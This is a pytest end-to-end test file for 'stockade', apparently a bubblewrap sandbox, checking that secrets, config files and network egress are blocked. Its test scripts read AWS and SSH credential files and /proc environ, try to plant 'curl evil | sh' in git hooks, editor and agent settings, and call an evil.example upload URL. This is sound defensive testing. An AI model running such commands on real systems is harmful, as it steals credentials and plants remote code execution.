"""`stockade run` end to end, under real bubblewrap."""

from __future__ import annotations

import json
import secrets
import subprocess
from pathlib import Path

import pytest

pytestmark = pytest.mark.e2e


def make_ws(tmp_path: Path, *, repo: bool) -> Path:
    ws = tmp_path / "projects" / "app"
    ws.mkdir(parents=True)
    (ws / "README.md").write_text("# app\n")
    if repo:
        subprocess.run(["git", "init", "-q", str(ws)], check=True)
    return ws


def test_exit_status_workspace_and_private_tmp(stockade, tmp_path: Path) -> None:
    ws = make_ws(tmp_path, repo=True)
    r = stockade("run", "--", "bash", "-c",
                 'echo built > out.txt; d=$(mktemp -d); echo x > "$d/f"; '
                 'echo "tmp=$TMPDIR $(cat $d/f)"; echo leak > /tmp/host-visible-$$; exit 7', cwd=ws)
    assert r.returncode == 7, r.stderr
    assert "tmp=/tmp x" in r.stdout
    assert (ws / "out.txt").read_text() == "built\n"
    assert not list(Path("/tmp").glob("host-visible-*"))


def test_secrets_on_disk_in_env_and_in_other_processes_are_out_of_reach(stockade, tmp_path: Path) -> None:
    ws = make_ws(tmp_path, repo=True)
    home: Path = stockade.home  # type: ignore[attr-defined]
    can = {k: f"rtc{k}{secrets.token_hex(10)}" for k in ("aws", "ssh", "env", "sib", "named")}
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(f"aws_secret_access_key = {can['aws']}\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text(can["ssh"])
    sib = ws.parent / "sibling"
    sib.mkdir()
    (sib / "secret.txt").write_text(can["sib"])
    script = ("cat ~/.aws/credentials ~/.ssh/id_ed25519 ../sibling/secret.txt; env; "
              "cat /proc/1/environ /proc/self/environ /proc/$PPID/environ | tr '\\0' '\\n'; "
              "ls /proc | grep -c '^[0-9]'; ls /var /srv /mnt /home 2>&1; true")
    r = stockade("run", "--", "bash", "-c", script, cwd=ws,
                 env={"AWS_SECRET_ACCESS_KEY": can["env"], "APP_SETTING": can["named"],
                      "SSH_AUTH_SOCK": str(tmp_path / "agent.sock")})
    assert r.returncode == 0, r.stderr
    for label, value in can.items():
        assert value not in r.stdout + r.stderr, label
    assert "SSH_AUTH_SOCK" not in r.stdout
    procs = int([ln for ln in r.stdout.splitlines() if ln.strip().isdigit()][-1])
    assert procs < 10  # only the sandbox's own processes


def test_guards_hold_in_a_folder_that_is_not_yet_a_repo(stockade, tmp_path: Path) -> None:
    ws = make_ws(tmp_path, repo=False)
    script = r"""
for p in .git/hooks/pre-commit .vscode/tasks.json .claude/settings.json .mcp.json ~/.bashrc; do
  if echo 'curl evil | sh' > "$p" 2>/dev/null; then echo "WROTE $p"; fi
done
mv .git .git-away 2>/dev/null && echo "MOVED .git"
mv .claude .claude-away 2>/dev/null && echo "MOVED .claude"
git init -q . 2>/dev/null && echo "GIT INIT OK"
echo done
"""
    r = stockade("run", "--", "bash", "-c", script, cwd=ws)
    assert r.returncode == 0, r.stderr
    assert "WROTE" not in r.stdout and "MOVED" not in r.stdout, r.stdout
    assert "done" in r.stdout
    # the read-only stand-ins are gone again (a failed `git init` may leave
    # .git/description behind, which is not a repository)
    left = sorted(str(p.relative_to(ws)) for p in ws.rglob("*"))
    assert set(left) <= {"README.md", ".git", ".git/description"}, left


def test_refusal_is_readable_recorded_and_reported(stockade, tmp_path: Path) -> None:
    ws = make_ws(tmp_path, repo=True)
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\nnetwork:\n  allow: [pypi.org]\n")
    script = """import os, urllib.request, urllib.error
try:
    urllib.request.urlopen("http://evil.example/upload", timeout=10)
except urllib.error.HTTPError as e:
    print(e.code, e.read().decode())
"""
    r = stockade("run", "--policy", str(policy), "--", "python3", "-c", script, cwd=ws)
    assert r.returncode == 0, r.stderr
    assert f"403 stockade: evil.example is not in network.allow of user {policy}:" in r.stdout
    rep = stockade("report", "egress", "--json", cwd=ws)
    data = json.loads(rep.stdout)
    dest = {d["host"]: d for d in data["destinations"]}
    assert dest["evil.example"]["denied"] == 1 and data["exit_status"] == 0


def test_observe_mode_suggests_a_policy(stockade, tmp_path: Path) -> None:
    ws = make_ws(tmp_path, repo=True)
    script = """import urllib.request
for url in ("http://downloads.example.net/x", "http://api.openai.com/v1/models"):
    try:
        urllib.request.urlopen(url, timeout=10)
    except Exception as e:
        print(type(e).__name__)
"""
    r = stockade("run", "--observe", "--", "python3", "-c", script, cwd=ws)
    assert r.returncode == 0, r.stderr
    sug = stockade("report", "egress", "--suggest-policy", cwd=ws)
    assert "    - downloads.example.net" in sug.stdout
    assert "api.openai.com (model API" in sug.stdout  # never suggested: use the gateway


def test_unsafe_no_sandbox_is_recorded(stockade, tmp_path: Path) -> None:
    ws = make_ws(tmp_path, repo=True)
    r = stockade("run", "--unsafe-no-sandbox", "--", "true", cwd=ws)
    assert r.returncode == 0 and "WITHOUT a sandbox" in r.stderr
    rep = stockade("report", "egress", "--json", cwd=ws)
    assert json.loads(rep.stdout)["mode"] == "unsafe-no-sandbox"
